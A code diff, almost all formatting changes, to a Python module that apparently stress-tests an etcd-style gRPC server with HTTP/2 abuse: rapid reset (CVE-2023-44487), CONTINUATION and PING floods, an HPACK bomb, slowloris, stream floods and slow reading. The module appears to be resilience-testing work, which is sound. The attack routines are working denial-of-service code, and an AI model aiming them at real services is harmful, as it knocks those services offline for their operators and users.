@@ -30,10 +30,24 @@ class Attack:
 
 # Bounds per profile: how many streams/connections an attack may make at most.
 SIZES = {
-    "short": {"big_streams": 64, "flood_streams": 20_000, "slowloris": 200, "idle": 500, "slow_ranges": 16,
-              "big_keys": 8, "hpack_value": 4000},
-    "long": {"big_streams": 256, "flood_streams": 200_000, "slowloris": 500, "idle": 1000, "slow_ranges": 64,
-             "big_keys": 32, "hpack_value": 4000},
+    "short": {
+        "big_streams": 64,
+        "flood_streams": 20_000,
+        "slowloris": 200,
+        "idle": 500,
+        "slow_ranges": 16,
+        "big_keys": 8,
+        "hpack_value": 4000,
+    },
+    "long": {
+        "big_streams": 256,
+        "flood_streams": 200_000,
+        "slowloris": 500,
+        "idle": 1000,
+        "slow_ranges": 64,
+        "big_keys": 32,
+        "hpack_value": 4000,
+    },
 }
 BIG_KEY_PREFIX = b"abuse-big/"
 BIG_VALUE = 1 << 20
@@ -43,8 +57,9 @@ def _left(deadline: float) -> float:
     return deadline - time.monotonic()
 
 
-def _sessions(host: str, port: int, deadline: float, stats: Stats, body: Callable[[h.Conn], None],
-              **conn_opts: object) -> None:
+def _sessions(
+    host: str, port: int, deadline: float, stats: Stats, body: Callable[[h.Conn], None], **conn_opts: object
+) -> None:
     """Run `body` on fresh connections until the deadline; a closed connection is reopened."""
     while _left(deadline) > 0:
         try:
@@ -85,6 +100,7 @@ def _sendall_until(c: h.Conn, data: bytes, deadline: float) -> bool:
 
 def rapid_reset(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
     """HEADERS (a full Range call) then RST_STREAM CANCEL, as fast as possible (CVE-2023-44487)."""
+
     def body(c: h.Conn) -> None:
         c.start_reader()
         while _left(deadline) > 0 and not c.closed.is_set() and c.next_stream < 2**31 - 1000:
@@ -96,6 +112,7 @@ def rapid_reset(host: str, port: int, deadline: float, p: dict, stats: Stats) ->
             if not _sendall_until(c, b"".join(batch), deadline):
                 return
             stats["streams"] = stats.get("streams", 0) + 100
+
     _sessions(host, port, deadline, stats, body)
 
 
@@ -112,6 +129,7 @@ def continuation_flood(host: str, port: int, deadline: float, p: dict, stats: St
             if not _sendall_until(c, empty, deadline):
                 return
             stats["frames"] = stats.get("frames", 0) + 1000
+
     _sessions(host, port, deadline, stats, body)
 
 
@@ -125,21 +143,26 @@ def huffman_literals(host: str, port: int, deadline: float, p: dict, stats: Stat
         while _left(deadline) > 0 and not c.closed.is_set() and c.next_stream < 2**31 - 1000:
             sid = c.new_stream()
             block = c.headers_block() + literal
-            chunks = [block[i:i + 16_384] for i in range(0, len(block), 16_384)]
-            out = [h.frame(h.HEADERS, h.END_STREAM | (h.END_HEADERS if len(chunks) == 1 else 0), sid, chunks[0])]
+            chunks = [block[i : i + 16_384] for i in range(0, len(block), 16_384)]
+            out = [
+                h.frame(h.HEADERS, h.END_STREAM | (h.END_HEADERS if len(chunks) == 1 else 0), sid, chunks[0])
+            ]
             for i, chunk in enumerate(chunks[1:], 2):
                 out.append(h.frame(h.CONTINUATION, h.END_HEADERS if i == len(chunks) else 0, sid, chunk))
             if not _sendall_until(c, b"".join(out), deadline):
                 return
             stats["blocks"] = stats.get("blocks", 0) + 1
+
     _sessions(host, port, deadline, stats, body)
 
 
 def hpack_bomb(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
     """One ~4 KB header put in the dynamic table, then blocks that reference it ~16,000 times
     (16 KB on the wire, ~64 MB decoded), stream after stream."""
-    plain = b"".join(h.plain_literal(k.encode(), v.encode()) for k, v in h.request_headers(
-        "/etcdserverpb.KV/Range", f"{host}:{port}"))
+    plain = b"".join(
+        h.plain_literal(k.encode(), v.encode())
+        for k, v in h.request_headers("/etcdserverpb.KV/Range", f"{host}:{port}")
+    )
     insert = h.plain_literal(b"x-bomb", b"A" * (p["hpack_value"] - 6 - 32), index=True)
     bomb = h.indexed(62) * (16_384 - len(plain) - 16)
 
@@ -149,15 +172,19 @@ def hpack_bomb(host: str, port: int, deadline: float, p: dict, stats: Stats) -> 
         c.send(h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, sid, plain + insert))
         while _left(deadline) > 0 and not c.closed.is_set() and c.next_stream < 2**31 - 1000:
             sid = c.new_stream()
-            if not _sendall_until(c, h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, sid, plain + bomb), deadline):
+            if not _sendall_until(
+                c, h.frame(h.HEADERS, h.END_HEADERS | h.END_STREAM, sid, plain + bomb), deadline
+            ):
                 return
             stats["blocks"] = stats.get("blocks", 0) + 1
+
     _sessions(host, port, deadline, stats, body)
 
 
 def settings_churn(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
     """500 calls left open (HEADERS of a unary call, no body), then SETTINGS frames each with a new
     SETTINGS_INITIAL_WINDOW_SIZE, as fast as possible (reading the ACKs)."""
+
     def body(c: h.Conn) -> None:
         c.start_reader()
         opened = b"".join(c.open_stream()[1] for _ in range(500))
@@ -172,6 +199,7 @@ def settings_churn(host: str, port: int, deadline: float, p: dict, stats: Stats)
             if not _sendall_until(c, b"".join(batch), deadline):
                 return
             stats["settings"] = stats.get("settings", 0) + 200
+
     _sessions(host, port, deadline, stats, body)
 
 
@@ -184,7 +212,9 @@ def _flood_noread(frame: bytes, key: str) -> Callable[[str, int, float, dict, St
                 if not _sendall_until(c, batch, deadline):
                     return
                 stats[key] = stats.get(key, 0) + 1000
+
         _sessions(host, port, deadline, stats, body, rcvbuf=4096)
+
     return attack
 
 
@@ -201,7 +231,7 @@ def big_unary_bodies(host: str, port: int, deadline: float, p: dict, stats: Stat
 
     def body(c: h.Conn) -> None:
         c.start_reader()
-        while (_left(deadline) > 0 and not c.closed.is_set() and stats.get("streams", 0) < p["big_streams"]):
+        while _left(deadline) > 0 and not c.closed.is_set() and stats.get("streams", 0) < p["big_streams"]:
             sid, hdr = c.open_stream("/etcdserverpb.KV/Put")
             if not _sendall_until(c, hdr, deadline):
                 return
@@ -210,6 +240,7 @@ def big_unary_bodies(host: str, port: int, deadline: float, p: dict, stats: Stat
             stats["bytes"] = stats.get("bytes", 0) + sent
         while _left(deadline) > 0 and not c.closed.is_set():  # hold them
             time.sleep(0.05)
+
     _sessions(host, port, deadline, stats, body)
 
 
@@ -218,8 +249,11 @@ def slow_reader(host: str, port: int, deadline: float, p: dict, stats: Stats) ->
     every 50 ms up to p["slow_ranges"], while reading the socket at ~160 KB/s."""
     from etcdstore.proto.etcdserverpb import rpc_pb2  # the request's encoding only
 
-    req = h.grpc_message(rpc_pb2.RangeRequest(key=BIG_KEY_PREFIX, range_end=BIG_KEY_PREFIX[:-1] + b"0",
-                                              serializable=True).SerializeToString())
+    req = h.grpc_message(
+        rpc_pb2.RangeRequest(
+            key=BIG_KEY_PREFIX, range_end=BIG_KEY_PREFIX[:-1] + b"0", serializable=True
+        ).SerializeToString()
+    )
 
     def body(c: h.Conn) -> None:
         c.send(h.window_update(0, h.MAX_WINDOW - h.DEFAULT_WINDOW))
@@ -232,13 +266,22 @@ def slow_reader(host: str, port: int, deadline: float, p: dict, stats: Stats) ->
                 stats["ranges"] = stats.get("ranges", 0) + 1
             time.sleep(0.05)
         stats["bytes_read"] = stats.get("bytes_read", 0) + c.bytes_read
-    _sessions(host, port, deadline, stats, body, rcvbuf=16_384,
-              client_settings={h.S_INITIAL_WINDOW_SIZE: h.MAX_WINDOW})
+
+    _sessions(
+        host,
+        port,
+        deadline,
+        stats,
+        body,
+        rcvbuf=16_384,
+        client_settings={h.S_INITIAL_WINDOW_SIZE: h.MAX_WINDOW},
+    )
 
 
 def stream_flood(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
     """Streams opened and never finished (unary calls without a body), far more than a server
     should allow at once (p["flood_streams"] in all)."""
+
     def body(c: h.Conn) -> None:
         c.start_reader()
         while _left(deadline) > 0 and not c.closed.is_set() and stats.get("streams", 0) < p["flood_streams"]:
@@ -248,6 +291,7 @@ def stream_flood(host: str, port: int, deadline: float, p: dict, stats: Stats) -
             stats["streams"] = stats.get("streams", 0) + 100
         while _left(deadline) > 0 and not c.closed.is_set():  # hold them
             time.sleep(0.05)
+
     _sessions(host, port, deadline, stats, body)
 
 
@@ -257,10 +301,16 @@ def _raise_nofile(n: int) -> None:
         resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 100), hard))
 
 
-def _hold_connections(host: str, port: int, deadline: float, n: int, stats: Stats,
-                      first: Callable[[socket.socket, int], None],
-                      step: Callable[[socket.socket, int, int], None] | None,
-                      interval: float) -> None:
+def _hold_connections(
+    host: str,
+    port: int,
+    deadline: float,
+    n: int,
+    stats: Stats,
+    first: Callable[[socket.socket, int], None],
+    step: Callable[[socket.socket, int, int], None] | None,
+    interval: float,
+) -> None:
     _raise_nofile(n)
     socks: list[socket.socket] = []
     try:
@@ -313,13 +363,14 @@ def slowloris_preface(host: str, port: int, deadline: float, p: dict, stats: Sta
 
     def dribble(s: socket.socket, i: int, tick: int) -> None:
         if i % 2 == 0 and tick < len(script):
-            s.send(script[tick:tick + 1])
+            s.send(script[tick : tick + 1])
 
     _hold_connections(host, port, deadline, p["slowloris"], stats, first, dribble, 0.5)
 
 
 def idle_connections(host: str, port: int, deadline: float, p: dict, stats: Stats) -> None:
     """p["idle"] connections that send the preface and SETTINGS, then nothing (never read)."""
+
     def first(s: socket.socket, i: int) -> None:
         s.sendall(h.PREFACE + h.settings())
 
@@ -339,16 +390,22 @@ def oversized_prefix(host: str, port: int, deadline: float, p: dict, stats: Stat
                 return
             stats["streams"] = stats.get("streams", 0) + 1
             stats["bytes"] = stats.get("bytes", 0) + c.send_data_respecting_windows(
-                sid, junk, min(deadline, time.monotonic() + 0.3))
+                sid, junk, min(deadline, time.monotonic() + 0.3)
+            )
+
     _sessions(host, port, deadline, stats, body)
 
 
 ATTACKS = [
     Attack("rapid_reset", "rapid reset (HEADERS then RST_STREAM)", rapid_reset),
-    Attack("continuation_flood", "HEADERS without END_HEADERS, endless empty CONTINUATION", continuation_flood),
+    Attack(
+        "continuation_flood", "HEADERS without END_HEADERS, endless empty CONTINUATION", continuation_flood
+    ),
     Attack("huffman_literals", "huge Huffman-coded header literals", huffman_literals),
     Attack("hpack_bomb", "one large indexed header repeated (HPACK bomb)", hpack_bomb),
-    Attack("settings_churn", "SETTINGS churn (new initial window each frame, 500 open streams)", settings_churn),
+    Attack(
+        "settings_churn", "SETTINGS churn (new initial window each frame, 500 open streams)", settings_churn
+    ),
     Attack("ping_flood_noread", "PING flood without reading", ping_flood_noread),
     Attack("settings_flood_noread", "SETTINGS flood without reading", settings_flood_noread),
     Attack("big_unary_bodies", "streams each sending 1 MiB of an unfinished unary request", big_unary_bodies),
